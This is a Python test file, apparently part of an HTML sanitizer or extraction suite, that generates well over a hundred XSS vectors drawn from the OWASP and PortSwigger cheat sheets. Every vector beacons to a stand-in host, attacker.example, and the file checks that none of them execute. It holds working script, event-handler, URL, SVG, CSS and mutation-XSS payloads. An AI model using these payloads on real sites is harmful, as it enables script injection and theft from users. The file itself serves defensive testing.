"""The XSS corpus of the attack suite: vectors from the well-known cheat-sheet families.

Every vector, if it ran, would call `hit(N)`: set `window.__xss`, open a dialog (alert) and request
`http://attacker.example/N`. The suite asserts none of the three happens. Families follow the OWASP
XSS filter evasion cheat sheet and PortSwigger's XSS cheat sheet: script tags, event handlers,
javascript:/data:/vbscript: URLs (plain, entity-encoded, mixed case, with control characters),
SVG and MathML, CSS, srcdoc and iframes, forms, meta refresh and base, attribute and comment
breakouts, mutation XSS through parser differentials, and Markdown link/image syntax in text.
"""

from __future__ import annotations

ATTACKER = "attacker.example"
JS = "window.__xss=1;alert(1);fetch('http://attacker.example/x')"


def hit(n: int) -> str:
    return f"window.__xss={n};alert({n});new Image().src='http://{ATTACKER}/{n}'"


def _vectors() -> list[tuple[str, str]]:
    """(family, HTML) pairs; `{H}` is the payload."""
    handlers = [
        "onerror",
        "onload",
        "onmouseover",
        "onfocus",
        "onclick",
        "ontoggle",
        "onbegin",
        "onanimationstart",
        "onpageshow",
        "onstart",
    ]
    templates: list[tuple[str, str]] = [
        ("script", "<script>{H}</script>"),
        ("script", "<SCRIPT SRC=http://attacker.example/xss.js></SCRIPT>"),
        ("script", "<script/xss src=http://attacker.example/1.js></script>"),
        ("script", "<<script>{H};//<</script>"),
        ("script", "<scr<script>ipt>{H}</scr</script>ipt>"),
        ("script", "<script type=module>{H}</script>"),
        ("script", "<script>/*</script><script>{H}//*/</script>"),
        ("script", "</title><script>{H}</script>"),
        ("script", "</textarea><script>{H}</script>"),
        ("script", "</style><script>{H}</script>"),
        ("script", "--><script>{H}</script>"),
        ("script", "<!--<script>-->{H}<!--</script>-->"),
        ("script", '<noscript><p title="</noscript><img src=x onerror={H}>"></noscript>'),
        ("script", "<template><script>{H}</script></template>"),
        ("handler", '<img src=x onerror="{H}">'),
        ("handler", "<img src=x onerror={H}//>"),
        ("handler", '<IMG SRC=/ onerror="{H}"></img>'),
        ("handler", '<img src="x" alt="" onerror="{H}">'),
        ("handler", "<img/src=x/onerror={H}>"),
        ("handler", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
        ("handler", '<svg onload="{H}">'),
        ("handler", "<svg/onload={H}>"),
        ("handler", '<body onload="{H}">'),
        ("handler", '<details open ontoggle="{H}"><summary>s</summary>text</details>'),
        ("handler", '<input autofocus onfocus="{H}">'),
        ("handler", '<select autofocus onfocus="{H}"></select>'),
        ("handler", '<textarea autofocus onfocus="{H}"></textarea>'),
        ("handler", '<keygen autofocus onfocus="{H}">'),
        ("handler", '<video src=x onerror="{H}"></video>'),
        ("handler", '<audio src=x onerror="{H}"></audio>'),
        ("handler", '<video><source onerror="{H}"></video>'),
        ("handler", '<marquee onstart="{H}">m</marquee>'),
        ("handler", '<div style="animation-name:x" onanimationstart="{H}">d</div>'),
        ("handler", '<iframe onload="{H}"></iframe>'),
        ("handler", '<object data=x onerror="{H}"></object>'),
        ("handler", '<p onmouseover="{H}" style="position:fixed;inset:0">cover</p>'),
        ("handler", '<a onclick="{H}" href="#">click</a>'),
        ("handler", '<button onfocus="{H}" autofocus>b</button>'),
        ("handler", '<form><button formaction="javascript:{H}">b</button></form>'),
        ("handler", '<table background="javascript:{H}"><tr><td>t</td></tr></table>'),
        ("handler", '<td background="javascript:{H}">cell</td>'),
        ("handler", '<image src=x onerror="{H}">'),
        ("handler", '<img src=x onerror&#x3D;"{H}">'),
        ("handler", "<img src=`x` onerror=`{H}`>"),
        ("handler", '<img """><script>{H}</script>">'),
        ("url", '<a href="javascript:{H}">link</a>'),
        ("url", '<a href="JaVaScRiPt:{H}">link</a>'),
        ("url", '<a href=" javascript:{H}">link</a>'),
        ("url", '<a href="java\tscript:{H}">link</a>'),
        ("url", '<a href="java&#x09;script:{H}">link</a>'),
        ("url", '<a href="java&#10;script:{H}">link</a>'),
        ("url", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{H}">link</a>'),
        ("url", '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{H}">link</a>'),
        ("url", '<a href="javascript&colon;{H}">link</a>'),
        ("url", '<a href="\x01javascript:{H}">link</a>'),
        ("url", '<a href="data:text/html,<script>{H}</script>">link</a>'),
        ("url", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>'),
        ("url", '<a href="vbscript:msgbox(1)">link</a>'),
        ("url", '<img src="javascript:{H}">'),
        ("url", '<iframe src="javascript:{H}"></iframe>'),
        ("url", '<iframe src="data:text/html,<script>{H}</script>"></iframe>'),
        ("url", '<iframe srcdoc="<script>{H}</script>"></iframe>'),
        ("url", '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>'),
        ("url", '<embed src="javascript:{H}">'),
        ("url", '<object data="javascript:{H}"></object>'),
        ("url", '<form action="javascript:{H}"><input type=submit></form>'),
        ("url", '<isindex action="javascript:{H}" type=image>'),
        ("url", '<base href="javascript:{H}//"><a href="/x">rel</a>'),
        ("url", '<meta http-equiv="refresh" content="0;url=javascript:{H}">'),
        ("url", '<link rel=import href="http://attacker.example/x.html">'),
        ("url", '<area href="javascript:{H}">'),
        ("url", '<a href="jav&#x0A;ascript:{H}">link</a>'),
        ("url", '<a href="http://attacker.example/1" ping="http://attacker.example/ping">pinged</a>'),
        ("url", '<img srcset="javascript:{H} 1x">'),
        ("url", '<a href="%6A%61%76%61%73%63%72%69%70%74:{H}">link</a>'),
        ("svg", "<svg><script>{H}</script></svg>"),
        ("svg", '<svg><a xlink:href="javascript:{H}"><text x=20 y=20>svg</text></a></svg>'),
        ("svg", '<svg><animate onbegin="{H}" attributeName=x dur=1s>'),
        ("svg", '<svg><set attributeName=href to="javascript:{H}"/></svg>'),
        (
            "svg",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"></use></svg>",
        ),
        ("svg", '<svg><foreignObject><img src=x onerror="{H}"></foreignObject></svg>'),
        ("svg", '<svg><style><img src=x onerror="{H}"></style></svg>'),
        (
            "math",
            '<math><mtext><table><mglyph><style><img src=x onerror="{H}"></style></mglyph></table></mtext></math>',
        ),
        ("math", '<math><maction actiontype=statusline xlink:href="javascript:{H}">m</maction></math>'),
        ("math", '<math href="javascript:{H}">m</math>'),
        ("css", '<div style="background:url(javascript:{H})">d</div>'),
        ("css", '<div style="width:expression({H})">d</div>'),
        ("css", "<style>@import 'http://attacker.example/x.css';</style>"),
        ("css", "<style>body{background:url(http://attacker.example/bg)}</style>"),
        ("css", '<link rel=stylesheet href="http://attacker.example/x.css">'),
        ("css", '<div style="behavior:url(http://attacker.example/x.htc)">d</div>'),
        ("css", "<style>body{background:\\75rl(http://attacker.example/escaped)}</style>"),
        ("css", "<style>@\\69mport 'http://attacker.example/escaped.css';</style>"),
        ("css", '<style>body{background-image:image-set("http://attacker.example/set.png" 1x)}</style>'),
        (
            "css",
            "<style>@font-face{font-family:x;src:url(//attacker.example/f.woff)}p{font-family:x}</style>",
        ),
        ("css", "<div style=\"background:url('http://attacker.example/attribute')\">d</div>"),
        ("css", '<div style="background:url(&quot;http://attacker.example/entity&quot;)">d</div>'),
        ("mxss", '<noscript><img src=x onerror="{H}"></noscript>'),
        ("mxss", '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{H}">'),
        ("mxss", '<svg></p><style><a id="</style><img src=1 onerror={H}>">'),
        ("mxss", '<xmp><img alt="</xmp><img src=x onerror={H}>"></xmp>'),
        ("mxss", '<title><img alt="</title><img src=x onerror={H}>"></title>'),
        ("mxss", '<textarea><img alt="</textarea><img src=x onerror={H}>"></textarea>'),
        ("mxss", "<plaintext><img src=x onerror={H}>"),
        ("mxss", "<!--><img src=x onerror={H}>-->"),
        ("mxss", '<a title="a"><img src=x onerror={H}>">'),
        ("breakout", '"><img src=x onerror={H}>'),
        ("breakout", "'><img src=x onerror={H}>"),
        ("breakout", "</p></div></article><img src=x onerror={H}>"),
        ("breakout", "<p>&lt;img src=x onerror={H}&gt;</p>"),
        ("breakout", "<p>&lt;script&gt;{H}&lt;/script&gt;</p>"),
        ("breakout", "<p>&amp;lt;img src=x onerror={H}&amp;gt;</p>"),
        ("markdown", "<p>[click](javascript:{H})</p>"),
        ("markdown", "<p>![x](javascript:{H})</p>"),
        ("markdown", "<p>[a](<javascript:{H}>)</p>"),
        ("markdown", "<p>&lt;javascript:{H}&gt;</p>"),
        ("markdown", '<p>[x](https://ok.example/ "t" onclick="{H}")</p>'),
        ("markdown", "<p>`</p><img src=x onerror={H}>`</p>"),
        ("markdown", "<p>*<img src=x onerror={H}>*</p>"),
        ("markdown", '<img src="https://ok.example/a.png" alt="](javascript:{H})">'),
        ("markdown", '<a href="https://ok.example/a)(javascript:{H}">paren</a>'),
        ("markdown", '<a href="https://ok.example/&lt;img src=x onerror={H}&gt;">lt</a>'),
        ("markdown", '<p>&lt;div onmouseover="{H}"&gt;hover&lt;/div&gt;</p>'),
        ("markdown", "<pre><code>```\n</code></pre><img src=x onerror={H}><pre><code>```</code></pre>"),
        ("unicode", '<a href="ｊａｖａｓｃｒｉｐｔ:{H}">fullwidth</a>'),
        ("unicode", '<img src=x onerror="\\u0061lert(1);{H}">'),
        ("unicode", '<a href="javascript\\u003a{H}">esc</a>'),
    ]
    for handler in handlers:
        templates.append(("handler-matrix", f'<div {handler}="{{H}}" tabindex=1 autofocus>h</div>'))
    return templates


def corpus() -> list[tuple[int, str, str]]:
    """(number, family, HTML) for every vector, each calling its own `hit(number)`."""
    return [(n, family, html.replace("{H}", hit(n))) for n, (family, html) in enumerate(_vectors(), start=1)]


def page(vectors: list[tuple[int, str, str]], title: str = "An ordinary article") -> str:
    """An article carrying the vectors among enough prose to be extracted."""
    prose = "<p>" + "The council met on Tuesday to discuss the new library opening hours. " * 4 + "</p>"
    body = "".join(f"{prose}<p>Case {n} ({family}):</p>{html}" for n, family, html in vectors)
    return (
        f"<!doctype html><html><head><title>{title}</title></head><body><article><h1>{title}</h1>"
        f"{body}{prose}</article></body></html>"
    )


def test_the_corpus_has_at_least_100_vectors_from_every_family() -> None:
    cases = corpus()
    families = {family for _, family, _ in cases}
    assert len(cases) >= 100
    assert {
        "script",
        "handler",
        "url",
        "svg",
        "math",
        "css",
        "mxss",
        "breakout",
        "markdown",
        "unicode",
    } <= families
    # every vector would be seen: the marker, the attacker host, or at least a dialog (alert/msgbox)
    assert all(
        f"__xss={n}" in html
        or "attacker.example" in html
        or "alert(" in html
        or "msgbox" in html
        or "PHNjcmlwdD5" in html
        for n, _, html in cases
    )
